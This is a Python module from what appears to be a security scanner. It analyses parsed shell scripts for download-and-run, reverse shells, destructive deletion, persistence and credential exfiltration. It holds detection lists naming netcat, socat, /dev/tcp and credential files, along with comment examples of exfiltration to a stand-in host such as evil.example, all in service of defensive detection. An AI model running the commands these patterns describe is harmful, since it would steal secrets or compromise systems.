"""Judge parsed shell by what it does: fetched code reaching an interpreter, destruction, persistence,
exfiltration, reverse shells.

Works on ``skillforge.scan.shell`` trees, so quoting, ``env``/``sudo``/``xargs`` wrappers, absolute
paths, ``$SHELL``, process and command substitution, ``|&`` and two-step download-then-run all look
the same as the plain form. The pattern rules in ``scripts.py`` still run beside this (other
languages, PowerShell, miners, TLS); both report under the same rule ids and are deduplicated.
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Callable
from dataclasses import dataclass, field

from skillforge.scan.detect import Hit
from skillforge.scan.shell import Command, Pipeline, Script, Word, parse, walk
from skillforge.scan.text import excerpt

SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "fish", "csh", "tcsh", "yash", "busybox"})
INTERPRETERS = SHELLS | frozenset(
    {"python", "pypy", "perl", "ruby", "node", "nodejs", "php", "lua", "deno", "bun", "pwsh", "powershell",
     "osascript", "tclsh", "rscript", "jshell", "irb"}
)
_HitFn = Callable[[str, int], None]
"""Records a hit: rule id and line."""

_SOURCE = frozenset({"source", "."})
_FETCHERS = frozenset(
    {"curl", "wget", "fetch", "http", "https", "xh", "aria2c", "lwp-request", "get", "lynx", "nc", "ncat",
     "netcat", "socat", "telnet", "ftp", "tftp", "iwr", "irm", "invoke-webrequest", "invoke-restmethod"}
)
_SENDERS = frozenset(
    {"curl", "wget", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "ssh", "scp", "sftp", "telnet",
     "openssl", "ftp", "rsync"}
)
_NC = frozenset({"nc", "ncat", "netcat"})
_ENV_DUMPS = frozenset({"env", "printenv", "set", "export", "declare", "typeset", "compgen"})
# Wrappers run their operand as the command; value: options that take an argument.
_WRAPPERS: dict[str, frozenset[str]] = {
    "sudo": frozenset({"-u", "-g", "-C", "-h", "-p", "-r", "-t", "-U", "-D", "-T", "--user", "--group"}),
    "doas": frozenset({"-u", "-C"}),
    "env": frozenset({"-u", "--unset", "-C", "--chdir", "-S", "--split-string"}),
    "nohup": frozenset(),
    "time": frozenset({"-f", "-o"}),
    "nice": frozenset({"-n", "--adjustment"}),
    "ionice": frozenset({"-c", "-n", "-p"}),
    "command": frozenset(),
    "builtin": frozenset(),
    "exec": frozenset({"-a"}),
    "stdbuf": frozenset({"-i", "-o", "-e"}),
    "timeout": frozenset({"-s", "-k", "--signal", "--kill-after"}),
    "setsid": frozenset(),
    "unbuffer": frozenset(),
    "chronic": frozenset(),
    "torsocks": frozenset(),
    "proxychains": frozenset({"-f"}),
    "proxychains4": frozenset({"-f"}),
    "caffeinate": frozenset(),
    "xargs": frozenset({"-I", "-i", "-n", "-P", "-d", "-L", "-l", "-a", "-E", "-e", "-s", "--delimiter",
                        "--max-args", "--max-procs", "--arg-file", "--replace"}),
    "busybox": frozenset(),
    "run": frozenset(),
    "run:": frozenset(),
    "shell": frozenset(),  # make's $(shell …)
}
_TIMEOUT_LIKE = frozenset({"timeout", "nice"})
_SHELL_VARS = re.compile(r"^\$\{?(SHELL|BASH|ZSH_NAME|0)\}?$")
_VERIFY = re.compile(
    r"^(?:sha(?:1|224|256|384|512)sum|shasum|md5sum|b2sum|cksum)$|^(?:gpg|gpg2|gpgv|cosign|minisign|"
    r"slsa-verifier|sigstore|signify)$"
)
_HOME = r"(?:~|\$HOME|\$\{HOME\}|/root|/home/[^/]+|/Users/[^/]+)"
_SYSTEM = (
    r"/(?:etc|usr|bin|sbin|lib|lib32|lib64|boot|var|opt|home|root|System|Users|Library|Applications|private|srv)"
)
_ROOTISH = re.compile(rf"^(?:/+\.?|/+\*|/+\.\*|{_HOME}/*\.?\*?|{_HOME}/\.\*|{_SYSTEM}/*\*?)$")
_UNBOUND = re.compile(r"^\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?(/\*?|/\.\*|/\.?)$")
_BARE_VAR = re.compile(r"^\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/?$")
_RC = (
    r"\.(?:bashrc|bash_profile|bash_login|bash_logout|zshrc|zshenv|zprofile|zlogin|zlogout|profile|kshrc|"
    r"cshrc|tcshrc|login|xprofile|xinitrc|inputrc|config/fish/|config/autostart/|config/systemd/|"
    r"local/share/systemd/|ssh/|gnupg/|gitconfig|config/git/|npmrc|pypirc|pip/|docker/|kube/|aws/|local/bin/)"
)
_PERSIST = re.compile(
    rf"^(?:{_HOME}/{_RC}|{_HOME}/Library/Launch(?:Agents|Daemons)/|/Library/Launch(?:Agents|Daemons)/|{_SYSTEM}/)"
)
_GIT_HOOK = re.compile(r"(?:^|/)\.git/hooks(?:/|$)|^\$\(\.\.\.\)/hooks(?:/|$)")
_CRED = re.compile(
    rf"{_HOME}/\.ssh(?:/|$)|\.ssh/(?:id_[a-z0-9]+|identity)$|\bid_(?:rsa|dsa|ecdsa|ed25519)$|\.aws/credentials\b|"
    rf"{_HOME}/\.aws\b|\.netrc\b|\.git-credentials\b|\.docker/config\.json\b|\.kube/config\b|\.config/gh/hosts\.yml|"
    r"\.npmrc\b|\.pypirc\b|\.gnupg\b|/etc/shadow\b|\.password-store\b|Keychains/|/proc/(?:self|\d+|\$\$)/environ|"
    r"(?:^|/)\.env(?:\.[\w-]+)?$|gcloud/(?:credentials|application_default_credentials)|\.azure/|"
    rf"{_HOME}/\.config/gcloud/?$"
)
_WRITE_OPS = frozenset({">", ">>", ">|", "&>", "&>>"})
_DISK = re.compile(r"^/dev/(?:sd|nvme|hd|disk|mmcblk|xvd|vd|md)")


@dataclass
class _State:
    """What earlier commands of a script did: files they downloaded, variables holding fetched text."""

    fetched: dict[str, int] = field(default_factory=dict)
    """Normalized path of a downloaded file → line of the download."""
    tainted: set[str] = field(default_factory=set)
    safe_vars: set[str] = field(default_factory=set)
    literals: dict[str, str] = field(default_factory=dict)
    """Variables set to a literal (``a=cu; b=rl; $a$b …`` names ``curl``)."""
    decoded: set[str] = field(default_factory=set)
    """Variables holding decoded data (``P=$(echo … | base64 -d)``): hidden code if it is run."""
    secrets_files: set[str] = field(default_factory=set)
    """Files an environment dump or a credential was written to (``env > /tmp/.e``)."""
    cwd_root: bool = False
    """The script ``cd``-ed to the home folder or a root: ``rm -rf ./*`` there empties it."""
    nounset: bool = False


def analyze(text: str, *, line: int = 1, nounset: bool = False) -> list[Hit]:
    """Hits for every dangerous thing the shell in ``text`` does; at most one per rule and line."""
    script = parse(text, line)
    state = _State(nounset=nounset)
    lines = text.split("\n")
    found: dict[tuple[str, int], Hit] = {}

    def hit(rule: str, at: int) -> None:
        if (rule, at) not in found:
            i = at - line
            shown = excerpt(lines[i]) if 0 <= i < len(lines) else ""
            found[(rule, at)] = Hit(rule, at, detail=shown)

    _script(script, state, hit, stdin_tainted=False)
    return sorted(found.values(), key=lambda h: (h.line, h.rule_id))


# -- the walk --------------------------------------------------------------------------------------
def _script(script: Script, state: _State, hit: _HitFn, *, stdin_tainted: bool) -> None:
    for n, pipeline in enumerate(script):
        _pipeline(pipeline, state, hit, stdin_tainted=stdin_tainted and n == 0)


def _pipeline(pipeline: Pipeline, state: _State, hit: _HitFn, *, stdin_tainted: bool) -> None:
    tainted = stdin_tainted
    decoded = False
    sensitive = False
    shell_out = False
    for k, cmd in enumerate(pipeline.commands):
        _resolve_words(cmd, state)
        name, args, via = _effective(cmd)
        stdin = tainted or _stdin_redirect_tainted(cmd, state)
        _nested(cmd, state, hit, stdin)
        if name is not None:
            _one(cmd, name, args, via, stdin, state, hit)
            if sensitive and name in _SENDERS:
                hit("network-exfil", cmd.line)
            if shell_out and name in _NC:
                hit("reverse-shell", cmd.line)
            if (name in INTERPRETERS or name in _SOURCE or name == "eval") and (
                decoded and _reads_stdin(name, args, via)
                or any(_holds_decoded(a.text, state) for a in _program_words(name, args))
            ):
                hit("obfuscated-exec", cmd.line)
        tainted = stdin or _produces_fetched(cmd, name, args, state)
        decoded = name in ("echo", "printf", "cat") and any(_holds_decoded(a.text, state) for a in args) or (
            k > 0 and decoded and name in ("cat", "tr", "rev", "sed")
        )
        reads_secrets = _reads_sensitive(cmd, name, args) or _prints_credential(name, [a.text for a in args])
        if reads_secrets:
            state.secrets_files.update(_norm(t.text) for t in _write_targets(cmd, name or "", args) if t.text)
        sensitive = sensitive or reads_secrets
        shell_out = shell_out or (name in SHELLS and k > 0 and stdin and "-i" in [a.text for a in args])
        _record_downloads(cmd, name, args, state, tainted, last=k == len(pipeline.commands) - 1)
        _record_vars(cmd, state)


def _nested(cmd: Command, state: _State, hit: _HitFn, stdin: bool) -> None:
    """Groups, process substitutions and command substitutions are scripts of their own."""
    if cmd.body is not None:
        _script(cmd.body, state, hit, stdin_tainted=stdin)
    for w in cmd.words:
        for sub in w.subs:
            # >(cmd) on a command reading fetched input (tee >(sh)) gets that input.
            _script(sub, state, hit, stdin_tainted=stdin if w.proc == ">" else False)
    for r in cmd.redirects:
        for sub in r.target.subs:
            _script(sub, state, hit, stdin_tainted=(stdin or _is_fetcher(cmd)) if r.target.proc == ">" else False)
    for _, value in cmd.assigns:
        for sub in value.subs:
            _script(sub, state, hit, stdin_tainted=False)


def _one(
    cmd: Command, name: str, args: list[Word], via: set[str], stdin: bool, state: _State, hit: _HitFn
) -> None:
    texts = [a.text for a in args]
    # -- fetched code reaching an interpreter --------------------------------------------------
    if name in INTERPRETERS or name in _SOURCE or name == "eval":
        if stdin and _reads_stdin(name, args, via) or any(_word_fetched(a, state) for a in _program_words(name, args)):
            hit("pipe-to-shell", cmd.line)
        if name not in SHELLS:
            for rule in _inline_program_rules(name, args, stdin):
                hit(rule, cmd.line)
    elif _runs_fetched_file(cmd, state):
        hit("pipe-to-shell", cmd.line)
    if name in INTERPRETERS:
        for rule in _heredoc_program_rules(cmd, name):
            hit(rule, cmd.line)
    if name == "git" and _git_config_runs_code(texts):
        hit("persistence-git-hook", cmd.line)
    # -- reverse shells --------------------------------------------------------------------------
    if name in INTERPRETERS and any(_DEV_NET.match(r.target.text) for r in cmd.redirects):
        hit("reverse-shell", cmd.line)
    if name in _NC and any(t in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") or re.match(r"^-\w*[ec]$", t) for t in texts):
        hit("reverse-shell", cmd.line)
    if name == "socat" and any(re.match(r"(?i)^(exec|system):", t) or re.search(r"(?i),\s*(exec|system):", t) for t in texts):
        hit("reverse-shell", cmd.line)
    # -- destruction -----------------------------------------------------------------------------
    if name == "rm" and _recursive(texts):
        if any(_dangerous_target(a.text, state, bare=False) for a in _operands(args)):
            hit("destructive-delete", cmd.line)
    if name == "find" and _find_deletes(texts):
        if any(_dangerous_target(t, state, bare=True) for t in _find_roots(texts)):
            hit("destructive-delete", cmd.line)
    if name in ("shred", "wipefs", "blkdiscard") and any(_DISK.match(t) for t in texts):
        hit("destructive-delete", cmd.line)
    if name == "dd" and any(t.startswith("of=") and _DISK.match(t[3:]) for t in texts):
        hit("destructive-delete", cmd.line)
    if name.startswith("mkfs"):
        hit("destructive-delete", cmd.line)
    # chmod -R 000 / or chown -R nobody ~ breaks a root or the home folder as surely as deleting it, and
    # mv ~ /tmp/x takes it away (named outright: "$DIR/" in an install script is its own folder)
    if name in ("chmod", "chown", "chgrp") and _recursive(texts) and not (name == "chmod" and _world_writable(args)):
        if any(_names_root(a.text, state) for a in _operands(args)[1:]):
            hit("destructive-delete", cmd.line)
    if name == "mv" and any(_names_root(a.text, state) for a in _operands(args)[:-1]):
        hit("destructive-delete", cmd.line)
    # -- persistence -----------------------------------------------------------------------------
    for target in _write_targets(cmd, name, args):
        if _GIT_HOOK.search(target.text) or (
            "/hooks/" in target.text and any(_mentions_git(s) for s in target.subs)
        ):
            hit("persistence-git-hook", cmd.line)
        elif _PERSIST.match(target.text) and not target.text.startswith(("/dev/", "/tmp/")):
            hit("write-outside-tree", cmd.line)
    # 'crontab -l' lists (words after it in prose are not a file to install)
    if name == "crontab" and "-l" not in texts and any(t == "-" or not t.startswith("-") for t in texts):
        hit("write-outside-tree", cmd.line)
    # -- exfiltration ------------------------------------------------------------------------------
    if name in _SENDERS and state.secrets_files and any(
        _norm(_strip_at(a.text)) in state.secrets_files for a in args
    ):
        hit("network-exfil", cmd.line)  # env > /tmp/.e; curl --data-binary @/tmp/.e …
    if name in _DNS and any(_sub_reads_sensitive(a) or any(_dumps_env(sub) for sub in a.subs) for a in args):
        hit("network-exfil", cmd.line)  # dig $(base64 ~/.ssh/id_rsa).evil.example: data leaves as a DNS query
    if name in _SENDERS and (any(_CRED.search(_strip_at(a.text)) for a in args) or any(
        _CRED.search(r.target.text) for r in cmd.redirects if r.op in ("<", "<>")
    ) or any(_sub_reads_sensitive(a) for a in args)):
        hit("network-exfil", cmd.line)


_DEV_NET = re.compile(r"^/dev/(?:tcp|udp)/")
_DNS = frozenset({"dig", "host", "nslookup", "drill", "ping", "resolvectl", "getent"})
_HEREDOC_FETCH = re.compile(r"\$\(\s*(?:\w+=\S*\s+)*(?:sudo\s+)?(?:curl|wget|fetch|iwr|irm)\b|`\s*(?:curl|wget)\b")


def _dumps_env(script: Script) -> bool:
    return any(_effective(c)[0] in ("env", "printenv") for c in walk(script))


def _heredoc_program_rules(cmd: Command, name: str) -> list[str]:
    """A here-document is the interpreter's program: ``sh <<EOF`` with ``$(curl …)`` in it runs the download
    (the shell expands it before reading), ``python3 - <<EOF`` runs whatever Python the body holds."""
    from skillforge.scan.programs import judge_program
    from skillforge.scan.python import scan_python

    rules: list[str] = []
    for r in cmd.redirects:
        if r.op not in ("<<", "<<-"):
            continue
        body = r.target.text
        if name in SHELLS:
            if _HEREDOC_FETCH.search(body):
                rules.append("pipe-to-shell")
            continue
        rules += judge_program(body)
        if name in ("python", "pypy"):
            rules += [h.rule_id for h in scan_python(body) or [] if (h.severity or "high") == "high" and h.rule_id != "dynamic-exec"]
    return sorted(set(rules))


# -- commands and their operands --------------------------------------------------------------------
def _name(word: Word) -> str | None:
    text = word.text
    if _SHELL_VARS.match(text):
        return "sh"
    if not text or text.startswith("$"):
        return None
    base = posixpath.basename(text.rstrip("/")).lower()
    base = re.sub(r"\.exe$", "", base)
    m = re.fullmatch(r"(python|pypy|perl|ruby|node|php|lua|pwsh)[0-9.]*", base)
    return m.group(1) if m else base


def _effective(cmd: Command) -> tuple[str | None, list[Word], set[str]]:
    """The command that really runs (past sudo/env/xargs/...), its arguments, and the wrappers passed."""
    words = list(cmd.words)
    via: set[str] = set()
    while words:
        name = _name(words[0])
        if name is None or name not in _WRAPPERS:
            return name, words[1:], via
        via.add(name)
        takes = _WRAPPERS[name]
        i = 1
        while i < len(words):
            t = words[i].text
            if name == "env" and re.fullmatch(r"[A-Za-z_]\w*=.*", t, re.DOTALL):
                i += 1
            elif t == "--":
                i += 1
                break
            elif t.startswith("-") and len(t) > 1:
                i += 2 if t in takes else 1
            elif name in _TIMEOUT_LIKE and re.fullmatch(r"[\d.]+[smhd]?", t):
                i += 1
            else:
                break
        words = words[i:]
        if name == "busybox" and words and _name(words[0]) in ("sh", "ash"):
            return "sh", words[1:], via
    return None, [], via


def _operands(args: list[Word]) -> list[Word]:
    out = []
    options = True
    for a in args:
        if options and a.text == "--":
            options = False
        elif options and a.text.startswith("-") and len(a.text) > 1:
            continue
        else:
            out.append(a)
    return out


def _reads_stdin(name: str, args: list[Word], via: set[str]) -> bool:
    """The interpreter takes its program from standard input (or, behind xargs, from its arguments)."""
    texts = [a.text for a in args]
    if name == "eval":
        return "xargs" in via
    if name in _SOURCE:
        return any(t in ("/dev/stdin", "-", "/proc/self/fd/0") for t in texts)
    if "xargs" in via:
        return True  # xargs sh -c / xargs bash: the fetched text becomes the program or its file names
    if any(t in ("-c", "-e", "-E", "--eval", "-r", "-m", "--command") for t in texts):
        return "-s" in texts
    if "-s" in texts or "-" in texts or "/dev/stdin" in texts:
        return True
    first = next((t for t in texts if not t.startswith("-")), None)
    return first is None or not (re.search(r"\.\w{1,5}$", first) or "/" in first)


def _program_words(name: str, args: list[Word]) -> list[Word]:
    """Words whose text becomes code: ``-c``/``-e`` strings, a script operand, eval's arguments."""
    if name == "eval":
        return args
    out: list[Word] = []
    texts = [a.text for a in args]
    for i, t in enumerate(texts):
        if t in ("-c", "-e", "-E", "--eval", "-r", "--command") or re.fullmatch(r"-\w*c", t) and name in SHELLS:
            if i + 1 < len(args):
                out.append(args[i + 1])
    ops = _operands(args)
    if ops:
        out.append(ops[0])
    return out


def _word_fetched(word: Word, state: _State) -> bool:
    """The word's text is downloaded content: a fetching substitution, a fetched file, a tainted variable."""
    if any(_fetches(sub, state) for sub in word.subs):
        return True
    if _fetched_path(word.text, state):
        return True
    return any(v in state.tainted for v in _VAR_NAMES.findall(word.text))


def _fetches(script: Script, state: _State) -> bool:
    for cmd in walk(script):
        name, args, _ = _effective(cmd)
        if name in _FETCHERS and not _writes_file(name, args):
            return True
        if name in ("cat", "head", "tail", "tac") and any(_fetched_path(a.text, state) for a in _operands(args)):
            return True
        if name in ("echo", "printf", "cat") and any(
            v in state.tainted for a in args for v in _VAR_NAMES.findall(a.text)
        ):
            return True
    return False


def _is_fetcher(cmd: Command) -> bool:
    name, args, _ = _effective(cmd)
    return name in _FETCHERS


def _produces_fetched(cmd: Command, name: str | None, args: list[Word], state: _State) -> bool:
    if cmd.body is not None and _fetches(cmd.body, state):
        return True
    if name is None:
        return False
    if name in _FETCHERS:
        return not _writes_file(name, args) or any(a.text == "-" for a in args)
    if name in ("cat", "head", "tail", "tac", "base64", "gunzip", "zcat") and any(
        _fetched_path(a.text, state) for a in _operands(args)
    ):
        return True
    return any(_word_fetched(a, state) for a in args if a.subs or "$" in a.text)


def _stdin_redirect_tainted(cmd: Command, state: _State) -> bool:
    for r in cmd.redirects:
        if r.op in ("<", "<<<", "<>") and (_word_fetched(r.target, state) or (r.target.proc == "<")):
            if r.target.proc != "<" or any(_fetches(s, state) for s in r.target.subs):
                return True
        if r.op in ("<<", "<<-") and "$(...)" in r.target.text and _word_fetched(r.target, state):
            return True
    return False


# -- downloads ---------------------------------------------------------------------------------------
def _output_option(name: str, args: list[Word]) -> tuple[str | None, bool]:
    """``(file, remote_name)``: where a curl/wget/aria2c writes, and whether it keeps the URL's name."""
    texts = [a.text for a in args]
    out_flag = {"curl": "o", "wget": "O", "aria2c": "o"}.get(name)
    remote = False
    for i, t in enumerate(texts):
        if out_flag is None:
            break
        long_forms = ("--output", "--output-document", "--out")
        for lf in long_forms:
            if t == lf and i + 1 < len(texts):
                return texts[i + 1], False
            if t.startswith(lf + "="):
                return t.split("=", 1)[1], False
        if re.fullmatch(r"-[A-Za-z]*", t) and not t.startswith("--"):
            flags = t[1:]
            if name == "curl" and "O" in flags and out_flag not in flags:
                remote = True
            if out_flag in flags:
                rest = flags[flags.index(out_flag) + 1 :]
                if rest:
                    return rest, False
                if i + 1 < len(texts):
                    return texts[i + 1], False
        elif t.startswith("-" + out_flag) and not t.startswith("--"):
            return t[2:], False
        if t == "--remote-name":
            remote = True
    if name == "wget" and not any(t in ("-O", "--spider") or t.startswith("-q") and "O" in t for t in texts):
        remote = True
    if remote:
        url = next((t for t in reversed(texts) if re.match(r"(?i)^(https?|ftp)://", t)), None)
        if url:
            base = posixpath.basename(url.split("?", 1)[0].split("#", 1)[0].rstrip("/")) or "index.html"
            prefix = next((texts[i + 1] for i, t in enumerate(texts[:-1]) if t in ("-P", "--directory-prefix")), "")
            return posixpath.join(prefix, base) if prefix else base, True
    return None, False


def _writes_file(name: str, args: list[Word]) -> bool:
    target, _ = _output_option(name, args)
    return target is not None and target != "-"


def _record_downloads(cmd: Command, name: str | None, args: list[Word], state: _State, tainted: bool, *, last: bool) -> None:
    if name is None:
        return
    if name in _FETCHERS:
        target, _ = _output_option(name, args)
        if target and target != "-":
            state.fetched[_norm(target)] = cmd.line
    if tainted and last:
        for r in cmd.redirects:
            if r.op in _WRITE_OPS and not r.target.text.startswith("/dev/"):
                state.fetched[_norm(r.target.text)] = cmd.line
    if tainted and name == "tee":
        for a in _operands(args):
            state.fetched[_norm(a.text)] = cmd.line
    if name == "add" and len(_operands(args)) >= 2 and any(re.match(r"(?i)^(?:https?|ftp)://", a.text) for a in args):
        state.fetched[_norm(_operands(args)[-1].text)] = cmd.line  # Dockerfile: ADD https://… /tmp/i.sh
    if name in ("mv", "cp") and len(_operands(args)) == 2:
        src, dest = _operands(args)
        if _fetched_path(src.text, state):
            state.fetched[_norm(dest.text)] = cmd.line
    if _VERIFY.match(name) and any(t in ("-c", "--check", "--verify", "-V", "verify", "verify-blob") for t in (a.text for a in args)):
        state.fetched.clear()  # downloaded, then checked: the safe way the rules' hint asks for
    if name == "gpgv":
        state.fetched.clear()


def _record_vars(cmd: Command, state: _State) -> None:
    assigns = list(cmd.assigns)
    if cmd.words and cmd.words[0].text in ("export", "declare", "typeset", "local", "readonly"):
        for w in cmd.words[1:]:
            var, eq, text = w.text.partition("=")
            if eq and re.fullmatch(r"[A-Za-z_]\w*", var):
                assigns.append((var, Word(text, w.quoted, w.subs)))
    for var, value in assigns:
        if value.text and "$" not in value.text and not value.subs:
            state.literals[var] = value.text
        else:
            state.literals.pop(var, None)
    for var, value in assigns:
        if any(_decodes(sub) for sub in value.subs) or _holds_decoded(value.text, state):
            state.decoded.add(var)
        else:
            state.decoded.discard(var)
        if any(_fetches(s, state) for s in value.subs) or _word_fetched(value, state):
            state.tainted.add(var)
        elif value.text and "$" not in value.text and not _ROOTISH.match(value.text):
            state.safe_vars.add(var)
    name, args, _ = _effective(cmd)
    if name == "cd":
        ops = [a.text for a in _operands(args)]
        state.cwd_root = not ops or _dangerous_target(ops[0], state, bare=False) or ops[0] in ("~/", "$HOME/")
    if name == "read" and cmd.redirects and any(_word_fetched(r.target, state) for r in cmd.redirects):
        state.tainted.update(a.text for a in _operands(args))
    if name == "set" and any(re.fullmatch(r"-[a-z]*u[a-z]*", a.text) for a in args):
        state.nounset = True
    if name == "set" and [a.text for a in args][:2] == ["-o", "nounset"]:
        state.nounset = True


_DECODERS = {"base64": ("-d", "--decode", "-D"), "base32": ("-d", "--decode"), "xxd": ("-r", "-revert"),
             "openssl": ("-d",), "uudecode": ()}


def _decodes(script: Script) -> bool:
    """The script decodes data (base64 -d, xxd -r, openssl … -d): what it prints is hidden text."""
    for cmd in walk(script):
        name, args, _ = _effective(cmd)
        if name in _DECODERS and (not _DECODERS[name] or any(a.text in _DECODERS[name] for a in args)):
            return True
    return False


def _holds_decoded(text: str, state: _State) -> bool:
    return bool(state.decoded) and any(v in state.decoded for v in _VAR_NAMES.findall(text))


def _norm(path: str) -> str:
    path = path.strip()
    while path.startswith("./"):
        path = path[2:]
    return posixpath.normpath(path) if path else path


def _fetched_path(text: str, state: _State) -> bool:
    if not state.fetched or not text:
        return False
    path = _norm(text)
    if path in state.fetched:
        return True
    base = posixpath.basename(path)
    return bool(base) and any(posixpath.basename(f) == base for f in state.fetched)


def _runs_fetched_file(cmd: Command, state: _State) -> bool:
    if not cmd.words:
        return False
    first = cmd.words[0].text
    name, args, _ = _effective(cmd)
    if name is not None and cmd.words and name != _name(cmd.words[0]):
        # sudo ./tool: the effective word is later
        idx = len(cmd.words) - len(args) - 1
        first = cmd.words[idx].text if 0 <= idx < len(cmd.words) else first
    return ("/" in first or first in state.fetched) and _fetched_path(first, state)


# -- destruction -------------------------------------------------------------------------------------
def _recursive(texts: list[str]) -> bool:
    for t in texts:
        if t == "--":
            return False
        if t in ("--recursive", "-R") or re.fullmatch(r"-[a-zA-Z]*[rR][a-zA-Z]*", t):
            return True
    return False


_GUARDED_VAR = re.compile(r"\$\{(HOME):?[?][^}]*\}")
_HOME_PREFIX = re.compile(r"^(?:~|\$HOME|\$\{HOME\})(?=/|$)")


_HERE = frozenset({".", "./", "*", "./*", ".*", "./.*", "./.[!.]*", "..", "../"})


def _dangerous_target(text: str, state: _State, *, bare: bool) -> bool:
    # ${HOME:?} only stops an *unset* HOME; the path is still the home folder (${BUILD_DIR:?} is a real guard).
    text = _GUARDED_VAR.sub(lambda m: "${" + m.group(1) + "}", text)
    if state.cwd_root and text in _HERE:
        return True  # cd ~ && rm -rf ./*
    if state.literals and "$" in text:
        # T=~; rm -rf "$T": the variable's literal value is what gets deleted.
        known = _VAR_REF.sub(lambda m: state.literals.get(m.group(1) or m.group(4) or "", m.group(0)), text)
        if known != text and "$" not in known and _dangerous_target(known, state, bare=True):
            return True
    if _ROOTISH.match(text):
        return True
    if "/." in text and (text.startswith("/") or _HOME_PREFIX.match(text)):
        # /tmp/../, /./, ~/.. all name a root or the home folder once normalized.
        normal = posixpath.normpath(_HOME_PREFIX.sub("/home/user", text))
        if normal in ("/", "//", "/home", "/home/user") or _ROOTISH.match(normal):
            return True
    m = _UNBOUND.match(text) or (_BARE_VAR.match(text) if bare else None)
    if m is None:
        return False
    var = m.group(1)
    if var == "HOME":
        return True
    return not state.nounset and var not in state.safe_vars and var not in ("PWD", "TMPDIR", "USER", "OLDPWD")


def _world_writable(args: list[Word]) -> bool:
    """``chmod 777``/``a+rwx``: the chmod-777 rule's case, reported there."""
    ops = _operands(args)
    mode = ops[0].text if ops else ""
    return bool(re.fullmatch(r"0*[0-7]{0,3}[2367]", mode) or re.search(r"(?:^|,)[ao]*\+[rxX]*w", mode))


def _names_root(text: str, state: _State) -> bool:
    """``text`` is a root, a system folder or the home folder, written out (or ``.`` after ``cd ~``)."""
    return bool(_ROOTISH.match(_GUARDED_VAR.sub(lambda m: "${" + m.group(1) + "}", text))) or (
        state.cwd_root and text in _HERE
    )


def _find_deletes(texts: list[str]) -> bool:
    for i, t in enumerate(texts):
        if t == "-delete":
            return True
        if t in ("-exec", "-execdir", "-ok", "-okdir") and i + 1 < len(texts):
            if posixpath.basename(texts[i + 1]) in ("rm", "shred", "unlink", "rmdir"):
                return True
    return False


def _find_roots(texts: list[str]) -> list[str]:
    roots = []
    for t in texts:
        if t in ("-H", "-L", "-P") or t.startswith(("-O", "-D")) and len(t) <= 3:
            continue
        if t.startswith(("-", "(", "!", "\\(")):
            break
        roots.append(t)
    return roots


# -- persistence and exfiltration --------------------------------------------------------------------
def _write_targets(cmd: Command, name: str, args: list[Word]) -> list[Word]:
    out = [r.target for r in cmd.redirects if r.op in _WRITE_OPS]
    ops = _operands(args)
    if name == "tee":
        out += ops
    elif name in ("cp", "mv", "install", "ln", "rsync") and len(ops) >= 2:
        out.append(ops[-1])
    elif name == "dd":
        out += [Word(a.text[3:]) for a in args if a.text.startswith("of=")]
    return out


def _mentions_git(script: Script) -> bool:
    return any(_effective(c)[0] == "git" for c in walk(script))


def _strip_at(text: str) -> str:
    text = text.split("=", 1)[1] if re.match(r"^[\w.-]+=@", text) else text
    return text[1:] if text.startswith("@") else text


def _reads_sensitive(cmd: Command, name: str | None, args: list[Word]) -> bool:
    if name is None and cmd.words and _name(cmd.words[0]) in ("env", "printenv"):
        return True  # a bare `env` (a wrapper with nothing to run) prints the environment
    if name in ("tar", "zip", "7z", "cp", "rsync", "cat") and _joins_credentials(args):
        return True
    if name in _ENV_DUMPS and (
        not _operands(args) or (name == "export" and "-p" in [a.text for a in args])
        or (name in ("declare", "typeset") and any(a.text in ("-x", "-p") for a in args))
    ):
        return name != "set" or not args
    if any(_CRED.search(a.text) for a in args) or any(
        _CRED.search(r.target.text) for r in cmd.redirects if r.op in ("<", "<>")
    ):
        return True
    return cmd.body is not None and any(_reads_sensitive(c, *_effective(c)[:2]) for c in walk(cmd.body))


# Commands that print a credential: their output sent anywhere is the credential sent.
_CREDENTIAL_PRINTERS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("gh", ("auth", "token")),
    ("gcloud", ("print-access-token",)),
    ("gcloud", ("print-identity-token",)),
    ("aws", ("configure", "get")),
    ("aws", ("configure", "export-credentials")),
    ("aws", ("get-session-token",)),
    ("aws", ("ecr", "get-login-password")),
    ("az", ("get-access-token",)),
    ("kubectl", ("config", "view", "--raw")),
    ("git", ("credential", "fill")),
    ("security", ("-w",)),
    ("op", ("read",)),
    ("vault", ("token", "lookup")),
)


def _prints_credential(name: str | None, texts: list[str]) -> bool:
    """``gh auth token``, ``gcloud auth print-access-token``, ``aws configure get …``, ``git credential fill``…"""
    return any(name == tool and all(word in texts for word in words) for tool, words in _CREDENTIAL_PRINTERS)


_CRED_DIRS = frozenset({".ssh", ".aws", ".gnupg", ".kube", ".docker", ".netrc", ".git-credentials", ".password-store",
                        ".config/gh", ".azure"})
_HOME_WORD = re.compile(rf"^{_HOME}/?$")


def _joins_credentials(args: list[Word]) -> bool:
    """``tar cz -C "$HOME" .ssh``: an operand that is a credential folder of the home folder it runs in."""
    texts = [a.text for a in args]
    home = any(t in ("-C", "--directory") and i + 1 < len(texts) and _HOME_WORD.match(texts[i + 1])
               for i, t in enumerate(texts)) or any(_HOME_WORD.match(t[len("--directory="):]) for t in texts
                                                   if t.startswith("--directory="))
    return home and any(_norm(a.text).split("/")[0] in _CRED_DIRS or _norm(a.text) in _CRED_DIRS
                        for a in _operands(args))


def _sub_reads_sensitive(word: Word) -> bool:
    return any(_reads_sensitive(c, *_effective(c)[:2]) for sub in word.subs for c in walk(sub))


# -- names hidden behind expansions ------------------------------------------------------------------
_VAR_NAMES = re.compile(r"\$\{?([A-Za-z_]\w*)")
"""Names of the variables a word refers to (``$A``, ``${A}``, ``${A:-x}``)."""
_VAR_REF = re.compile(r"\$\{([A-Za-z_]\w*)(?:(:?[-=])([^}]*))?\}|\$([A-Za-z_]\w*)")
_LOOKUP = frozenset({"which", "command", "type", "whereis"})


def _resolve_words(cmd: Command, state: _State) -> None:
    """Rewrite the command word the way the shell would see it, where the text hides it:
    ``$a$b`` with literal ``a``/``b``, ``${SHELL:-sh}``, ``$(which bash)``, and brace expansion
    ``{curl,-s,URL}`` (one word that becomes several)."""
    if not cmd.words:
        return
    first = cmd.words[0]
